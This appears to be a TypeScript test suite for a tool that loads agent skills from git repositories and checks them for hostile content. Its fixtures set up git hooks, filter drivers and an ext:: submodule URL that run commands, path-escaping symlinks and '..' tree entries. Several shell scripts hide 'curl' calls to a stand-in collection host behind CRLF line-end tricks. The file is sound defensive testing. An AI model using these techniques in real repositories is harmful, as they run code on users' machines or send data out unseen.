import { chmodSync, existsSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { DEFAULT_SOURCE_LIMITS } from '../../../src/contracts/source-limits.ts';
import { type LoadOptions, loadSource } from '../../../src/sources/load-source.ts';
import { parseSource } from '../../../src/sources/parse-source.ts';
import { NO_PATHS } from '../no-paths.ts';
import { addFiles, tempFolder } from '../temp-folder.ts';
import { repository, SKILL, stubGitConfig, writeObject } from './repository.ts';

afterEach(() => vi.unstubAllEnvs());

function load(text: string, options: LoadOptions = {}) {
  return loadSource(parseSource(text, NO_PATHS), options);
}

async function rulesOf(text: string, options: LoadOptions = {}): Promise<string[]> {
  return (await load(text, options)).findings.map(({ finding }) => finding.rule);
}

describe('a git repository', () => {
  test('yields its skills with their modes and bytes', async () => {
    const { url } = repository({
      'skills/a/SKILL.md': SKILL,
      'skills/a/run.sh': '#!/bin/sh\n',
      'README.md': 'x',
    });
    const { skills, findings } = await load(url);
    expect(findings).toEqual([]);
    expect(skills).toEqual([
      {
        path: 'skills/a',
        folder: {
          source: url,
          folder: 'a',
          files: [
            { path: 'SKILL.md', executable: false, content: new TextEncoder().encode(SKILL) },
            { path: 'run.sh', executable: true, content: new TextEncoder().encode('#!/bin/sh\n') },
          ],
        },
      },
    ]);
  });

  test('can be read at a branch, a tag or a commit', async () => {
    const { url, git, folder } = repository({ 'SKILL.md': SKILL });
    git('tag', '-a', 'v1', '-m', 'v1');
    const first = git('rev-parse', 'HEAD');
    addFiles(folder, { 'later.md': 'x' });
    git('add', '--all');
    git('commit', '--quiet', '--message=second');
    const filesAt = async (ref: string) => (await load(`${url}${ref}`)).skills[0]?.folder.files.length;
    expect(await Promise.all(['', '#main', '#v1', `#${first}`].map(filesAt))).toEqual([2, 2, 1, 1]);
  });

  test('can be read at a ref whose full name is given, and at no other if a branch and a tag have its name', async () => {
    const { url, git, folder } = repository({ 'SKILL.md': SKILL });
    git('tag', 'main');
    addFiles(folder, { 'later.md': 'x' });
    git('add', '--all');
    git('commit', '--quiet', '--message=second');
    const filesAt = async (ref: string) => (await load(`${url}${ref}`)).skills[0]?.folder.files.length;
    expect(await Promise.all(['#refs/heads/main', '#refs/tags/main', '#heads/main'].map(filesAt))).toEqual([
      2, 1, 2,
    ]);
    await expect(load(`${url}#main`)).rejects.toMatchObject({
      code: 'SOURCE_UNREACHABLE',
      message: expect.stringContaining(
        '"main" can mean refs/heads/main or refs/tags/main. Write the one that you mean: REPOSITORY#refs/heads/main or',
      ),
    });
  });

  test('can be found on GitHub by owner and name', async () => {
    const { folder } = repository({ 'skills/a/SKILL.md': SKILL });
    stubGitConfig({ [`url.file://${folder}.insteadOf`]: 'https://github.com/owner/repo.git' });
    expect((await load('owner/repo@a')).skills.map(({ path }) => path)).toEqual(['skills/a']);
  });

  test('that does not exist is an error that says so', async () => {
    await expect(load('file:///nowhere/at/all.git')).rejects.toMatchObject({
      code: 'SOURCE_UNREACHABLE',
      message: expect.stringMatching(/does not appear to be a git repository/),
    });
    const { url } = repository({ 'SKILL.md': SKILL });
    await expect(load(`${url}#gone`)).rejects.toThrow(/couldn't find remote ref gone/);
  });

  test('leaves nothing behind', async () => {
    const { url } = repository({ 'SKILL.md': SKILL });
    const temporary = tempFolder({});
    vi.stubEnv('TMPDIR', temporary);
    await load(url);
    await load(`${url}#gone`).catch(() => null);
    expect(readdirSync(temporary)).toEqual([]);
  });

  test('without a skill gives a finding', async () => {
    expect(await rulesOf(repository({ 'README.md': 'x' }).url)).toEqual(['source/no-skill']);
  });

  test('can be loaded within a git hook, which sets variables that name another repository', async () => {
    const { url, folder } = repository({ 'SKILL.md': SKILL });
    vi.stubEnv('GIT_DIR', join(folder, 'other'));
    vi.stubEnv('GIT_INDEX_FILE', join(folder, 'index'));
    vi.stubEnv('GIT_OBJECT_DIRECTORY', join(folder, 'other-objects'));
    expect((await load(url)).skills).toHaveLength(1);
    expect(existsSync(join(folder, 'other-objects'))).toBe(false);
  });
});

describe('a folder in a repository', () => {
  const files = { 'skills/a/SKILL.md': SKILL, 'skills/b/SKILL.md': SKILL, 'more/c/SKILL.md': SKILL };

  /** As GitHub would serve it. */
  function onGitHub() {
    const made = repository(files);
    stubGitConfig({ [`url.file://${made.folder}.insteadOf`]: 'https://github.com/owner/repo.git' });
    return made;
  }

  const pathsOf = async (text: string) => (await load(text)).skills.map(({ path }) => path);

  test('follows the name of the repository', async () => {
    onGitHub();
    expect(await pathsOf('owner/repo/skills')).toEqual(['skills/a', 'skills/b']);
    expect(await pathsOf('github:owner/repo/more/c/SKILL.md#main')).toEqual(['more/c']);
    const [skill] = (await load('owner/repo/more/c')).skills;
    expect(skill?.folder).toMatchObject({ folder: 'c', source: 'owner/repo/more/c' });
  });

  test('can be given by the URL of its page, even on a branch with slashes in its name', async () => {
    const { git, folder } = onGitHub();
    git('checkout', '--quiet', '-b', 'feature/skills/x');
    addFiles(folder, { 'skills/new/SKILL.md': SKILL });
    git('add', '--all');
    git('commit', '--quiet', '--message=more');
    const commit = git('rev-parse', 'HEAD');
    const page = 'https://github.com/owner/repo';
    expect(await pathsOf(`${page}/tree/main/skills`)).toEqual(['skills/a', 'skills/b']);
    expect(await pathsOf(`${page}/tree/feature/skills/x/skills/new`)).toEqual(['skills/new']);
    expect(await pathsOf(`${page}/blob/feature/skills/x/skills/new/SKILL.md`)).toEqual(['skills/new']);
    expect(await pathsOf(`${page}/tree/${commit}/skills/new`)).toEqual(['skills/new']);
    expect(await pathsOf(`${page}/tree/main`)).toEqual(['skills/a', 'skills/b']);
    git('tag', 'main/skills');
    await expect(pathsOf(`${page}/tree/main/skills/a`)).rejects.toThrow(
      /refs\/tags\/main\/skills \(folder a\) or refs\/heads\/main \(folder skills\/a\).*OWNER\/REPO\/skills\/a#refs\/heads\/main/,
    );
  });

  test('that does not exist is an error that lists what does', async () => {
    onGitHub();
    await expect(load('owner/repo/skils/a')).rejects.toThrow(
      /no folder "skils\/a".*Did you mean skills\/a\?/,
    );
    await expect(load('https://github.com/owner/repo/tree/gone/skills')).rejects.toThrow(
      /"gone\/skills" does not begin with a branch, tag or full commit id/,
    );
  });
});

describe('several skills', () => {
  const two = { 'skills/a/SKILL.md': SKILL, 'skills/b/SKILL.md': SKILL.replace('name: a', 'name: other') };

  test('are all loaded, or one is chosen by its name or folder', async () => {
    const { url } = repository(two);
    const pathsOf = async (text: string, options?: LoadOptions) =>
      (await load(text, options)).skills.map(({ path }) => path);
    expect(await pathsOf(url)).toEqual(['skills/a', 'skills/b']);
    expect(await pathsOf(`${url}#@other`)).toEqual(['skills/b']);
    expect(await pathsOf(`${url}#@b`)).toEqual(['skills/b']);
    expect(await pathsOf(url, { skillName: 'a' })).toEqual(['skills/a']);
  });

  test('are listed if none has the requested name', async () => {
    await expect(load(repository(two).url, { skillName: 'pdf' })).rejects.toThrow('It contains a, other.');
  });

  test('with the same name are reported, and neither is chosen', async () => {
    const { url } = repository({ 'skills/a/SKILL.md': SKILL, 'skills/b/SKILL.md': SKILL });
    expect(
      (await load(url)).findings.map(({ path, finding }) => [path, finding.rule, finding.excerpt]),
    ).toEqual([
      ['skills/a', 'source/shared-name', 'Also called a: skills/b'],
      ['skills/b', 'source/shared-name', 'Also called a: skills/a'],
    ]);
    await expect(load(url, { skillName: 'a' })).rejects.toThrow('in skills/a and skills/b');
  });

  test('with the same name can be chosen by their paths', async () => {
    const { url } = repository({ 'skills/a/SKILL.md': SKILL, 'skills/b/SKILL.md': SKILL });
    const { skills, findings } = await load(url, { skillName: 'skills/b' });
    expect(skills.map(({ path }) => path)).toEqual(['skills/b']);
    expect(findings).toEqual([]);
  });

  test('beyond the limit are counted', async () => {
    const limits = { ...DEFAULT_SOURCE_LIMITS, skills: 1 };
    const { skills, findings } = await load(repository(two).url, { limits });
    expect(skills).toHaveLength(1);
    expect(findings.map(({ finding }) => [finding.rule, finding.excerpt])).toEqual([
      ['source/too-many-skills', '2 skills, of which 1 are checked'],
    ]);
  });
});

describe('no code in a repository is executed:', () => {
  test('no hooks, filters or submodules, even if the user has configured them', async () => {
    const marks = tempFolder({});
    const marker = join(marks, 'ran');
    const hooks = tempFolder({});
    for (const hook of [
      'post-checkout',
      'post-merge',
      'reference-transaction',
      'pre-auto-gc',
      'post-index-change',
    ]) {
      writeFileSync(join(hooks, hook), `#!/bin/sh\ntouch ${marker}\n`);
      chmodSync(join(hooks, hook), 0o755);
    }
    const { url } = repository({
      'SKILL.md': SKILL,
      '.gitattributes': '* filter=evil diff=evil merge=evil\n',
      '.gitmodules': `[submodule "m"]\n\tpath = m\n\turl = ext::sh -c "touch% ${marker}"\n`,
      'data.bin': 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n',
    });
    stubGitConfig({
      'core.hooksPath': hooks,
      'core.fsmonitor': `touch ${marker}; false`,
      'filter.evil.smudge': `touch ${marker}; cat`,
      'filter.evil.process': `touch ${marker}`,
      'filter.evil.required': 'true',
      'fetch.recurseSubmodules': 'true',
      'submodule.recurse': 'true',
      'protocol.allow': 'always',
      'protocol.ext.allow': 'always',
    });
    const { skills, findings } = await load(url);
    expect(skills).toHaveLength(1);
    expect(findings.map(({ finding }) => [finding.rule, finding.file])).toEqual([
      ['source/part-elsewhere', 'data.bin'],
    ]);
    expect(existsSync(marker)).toBe(false);
  });

  test('a submodule beside the skills is not fetched, and is reported as unknown', async () => {
    const { url, git } = repository({ 'skills/a/SKILL.md': SKILL });
    git('update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},skills/b`);
    git('commit', '--quiet', '--message=submodule');
    const { skills, findings } = await load(url);
    expect(skills.map(({ path }) => path)).toEqual(['skills/a']);
    expect(findings.map(({ finding }) => [finding.rule, finding.file])).toEqual([
      ['source/not-followed', 'skills/b'],
    ]);
  });

  test('a URL cannot reach a transport that runs commands', async () => {
    const marker = join(tempFolder({}), 'ran');
    stubGitConfig({
      [`url.ext::sh -c "touch ${marker}" %.insteadOf`]: 'https://github.com/',
      'protocol.ext.allow': 'always',
    });
    await expect(load('owner/repo')).rejects.toThrow(/transport 'ext' not allowed/);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('a repository whose files git rewrites', () => {
  const SCRIPT = 'echo "$Id$" "$Format:%B$"\n';
  const files = (attributes: string) => ({
    'tidy/SKILL.md': SKILL.replace('name: a', 'name: tidy'),
    'tidy/scripts/run.sh': SCRIPT,
    'other/SKILL.md': SKILL.replace('name: a', 'name: other'),
    '.gitattributes': attributes,
  });
  const outcomeOf = async (made: { url: string }) => {
    const { skills, findings } = await load(made.url);
    const found = findings.map(({ path, finding }) => [path, finding.rule, finding.file, finding.excerpt]);
    return { skills: skills.map(({ path }) => path), found };
  };

  test.each([
    ['*.sh text working-tree-encoding=IBM037', 'in the encoding IBM037'],
    ['[attr]odd working-tree-encoding=IBM037\n*.sh odd', 'in the encoding IBM037'],
    ['tidy/** ident', 'replaces the text from "$Id" to "$"'],
    ['run.sh export-subst', 'replaces the text from "$Format:" to "$"'],
  ])('by "%s" has the skill with them refused', async (attributes, flaw) => {
    const { skills, found } = await outcomeOf(repository(files(attributes)));
    expect(skills).not.toContain('tidy');
    expect(found).toContainEqual([
      'tidy',
      'source/text-differs',
      expect.stringMatching(/^tidy\//),
      expect.stringContaining(flaw),
    ]);
  });

  test.each([
    'echo \\\ncurl https://collect.example.net\n',
    ': <<END\nEND\ncurl https://collect.example.net\nEND\n',
    'echo done.\nexit\ncurl https://collect.example.net\n',
    '[ -f x ] || exit\ncurl https://collect.example.net\n',
    '[ a = a ] && :\nset -e\nfalse; curl https://collect.example.net\n',
    'if [ a = b ]\nthen curl https://collect.example.net; fi\n',
  ])(
    'by CRLF line ends, with which a shell reads %j as other commands, has the skill with them refused',
    async (script) => {
      stubGitConfig({ 'core.safecrlf': 'false' });
      const made = repository({
        ...files('*.sh text eol=crlf\n*.bat eol=crlf\n'),
        'tidy/scripts/run.sh': script,
      });
      expect((await outcomeOf(made)).found).toEqual([
        [
          'tidy',
          'source/text-differs',
          'tidy/scripts/run.sh',
          expect.stringContaining('with CRLF line ends'),
        ],
      ]);
      const forWindows = repository({ ...files('*.bat eol=crlf\n'), 'tidy/scripts/run.bat': script });
      expect((await outcomeOf(forWindows)).found).toEqual([]);
      const binary = repository({ ...files('*.sh -text eol=crlf\n'), 'tidy/scripts/run.sh': script });
      expect((await outcomeOf(binary)).found).toEqual([]);
    },
  );

  test('in no other way than every user does has nothing refused', async () => {
    const attributes =
      '* text=auto eol=crlf diff=x working-tree-encoding=UTF-8\nother/* ident export-subst\n';
    stubGitConfig({ 'core.safecrlf': 'false' });
    const { skills, found } = await outcomeOf(repository(files(attributes)));
    expect([skills, found]).toEqual([['other', 'tidy'], []]);
  });

  test('by the attributes of the user is read as it is committed', async () => {
    const attributes = join(tempFolder({ mine: '* working-tree-encoding=UTF-16\n' }), 'mine');
    const made = repository(files('# none\n'));
    stubGitConfig({ 'core.attributesFile': attributes });
    expect((await outcomeOf(made)).found).toEqual([]);
  });

  test.each(['.GitAttributes', 'Tidy/.gitattributes'])(
    'on systems that ignore case, by %s, is not loaded',
    async (path) => {
      const made = repository({ ...files(''), [path]: '*.sh working-tree-encoding=IBM037\n' });
      const { skills, found } = await outcomeOf(made);
      expect(skills).toEqual([]);
      expect(found).toEqual([
        [null, 'source/text-differs', path, expect.stringContaining('On some systems')],
      ]);
    },
  );

  test('and whose archives lack files of a skill is loaded, with a note', async () => {
    const { skills, found } = await outcomeOf(repository(files('/tidy/scripts/ export-ignore\n')));
    expect(skills).toEqual(['other', 'tidy']);
    expect(found).toEqual([['tidy', 'source/left-out', 'tidy/scripts/run.sh', 'export-ignore is set']]);
  });
});

test.each([
  'version https://git-lfs.github.com/spec/v1\n',
  'version https://hawser.github.com/spec/v1\n',
  '\nversion http://git-media.io/v/2\r\n',
])('a pointer that begins with %j is reported as content that is elsewhere', async (first) => {
  const { url } = repository({ 'SKILL.md': SKILL, 'run.sh': `${first}oid sha256:0\nsize 1\n` });
  expect(await rulesOf(url)).toEqual(['source/part-elsewhere']);
});

describe('a hostile repository', () => {
  test('with a link that leaves a skill does not get that skill loaded', async () => {
    const { url, folder, git } = repository({
      'skills/a/SKILL.md': SKILL,
      'skills/b/SKILL.md': SKILL,
      LICENSE: 'x',
    });
    symlinkSync('../../LICENSE', join(folder, 'skills/a/LICENSE'));
    symlinkSync('SKILL.md', join(folder, 'skills/b/COPY.md'));
    git('add', '--all');
    git('commit', '--quiet', '--message=links');
    const { skills, findings } = await load(url);
    expect(skills.map(({ path, folder: { files } }) => [path, files.length])).toEqual([['skills/b', 2]]);
    expect(findings.map(({ finding }) => [finding.rule, finding.file])).toEqual([
      ['source/link-unsafe', 'skills/a/LICENSE'],
    ]);
  });

  test('whose tree contains ".." is not loaded at all', async () => {
    const { url, folder, git } = repository({ 'SKILL.md': SKILL });
    const inner = git('rev-parse', 'HEAD^{tree}');
    const entry = Buffer.concat([Buffer.from('40000 ..\0'), Buffer.from(inner, 'hex')]);
    const tree = writeObject(folder, 'tree', entry);
    git('update-ref', 'refs/heads/main', git('commit-tree', tree, '-m', 'evil'));
    const { skills, findings } = await load(url);
    expect(skills).toEqual([]);
    expect(findings.map(({ finding }) => finding.rule)).toEqual(['source/path-unsafe']);
  });

  test('with a submodule in a skill is warned of, as its content is unknown', async () => {
    const { url, git } = repository({ 'SKILL.md': SKILL });
    git('update-index', '--add', '--cacheinfo', `160000,${git('rev-parse', 'HEAD')},lib`);
    git('commit', '--quiet', '--message=submodule');
    const { findings } = await load(url);
    expect(findings.map(({ finding }) => finding)).toMatchObject([
      { rule: 'source/part-elsewhere', severity: 'medium', file: 'lib' },
    ]);
  });

  test('that exceeds its limits is not read', async () => {
    const { url } = repository({ 'SKILL.md': SKILL, 'a.md': 'x', 'big.txt': 'x'.repeat(5000) });
    const rulesWithin = (limits: Partial<typeof DEFAULT_SOURCE_LIMITS>) =>
      rulesOf(url, { limits: { ...DEFAULT_SOURCE_LIMITS, ...limits } });
    expect(await rulesWithin({ files: 2 })).toEqual(['source/over-limits']);
    expect(await rulesWithin({ unpackedBytes: 4000 })).toEqual(['source/over-limits']);
    expect(await rulesWithin({ containerEntries: 2 })).toEqual(['source/over-limits']);
    expect(await rulesWithin({ containerBytes: 100 })).toEqual(['source/over-limits']);
  });

  test('is no longer read once the user aborts', async () => {
    const { url } = repository({ 'SKILL.md': SKILL });
    const signal = AbortSignal.abort();
    await expect(load(url, { signal })).rejects.toMatchObject({ code: 'INTERRUPTED' });
  });
});
